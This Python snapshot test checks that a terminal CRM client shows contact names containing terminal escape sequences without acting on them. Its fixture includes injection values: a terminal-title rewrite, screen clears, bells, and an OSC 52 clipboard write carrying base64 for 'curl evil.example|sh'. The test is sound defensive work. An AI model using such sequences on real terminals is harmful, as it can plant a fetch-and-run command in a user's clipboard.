"""Snapshot: contacts whose names hold terminal escape sequences, drawn with ␛ where ESC was.

The names are set through the sandbox's API (a colleague or a web form could do the same); the
stream, at 160x45 with the preview pane, shows them whole and inert.
"""

from __future__ import annotations

import httpx
import pytest
from textual.pilot import Pilot

from crmtui.sandbox.onepagecrm.server import SandboxHandle
from tests.support.waits import HANG_GUARD

from .test_snapshots import SIZES, ready, shot

NAMES = [
    ("Title\x1b]0;PWNED\x1b\\", "Clip\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"),
    ("Clear\x1b[2J\x1b[H", "Bell\x07\x07"),
]


def rename_first_contacts(sandbox: SandboxHandle) -> None:
    with httpx.Client(base_url=sandbox.base_url, auth=(sandbox.user_id, sandbox.api_key), timeout=HANG_GUARD) as api:
        stream = api.get("action_stream", params={"per_page": len(NAMES)}).json()["data"]["contacts"]
        for item, (first, last) in zip(stream, NAMES, strict=True):
            contact = item["contact"]
            body = {"first_name": first, "last_name": last, "company_name": contact["company_name"]}
            assert api.put(f"contacts/{contact['id']}", json=body).status_code == 200


@pytest.mark.parametrize("size", SIZES)
def test_escape_sequences_in_names(snap_compare, sandbox, size) -> None:
    rename_first_contacts(sandbox)

    async def run_before(pilot: Pilot) -> None:
        await ready(pilot)

    assert shot(snap_compare, sandbox, size, run_before)
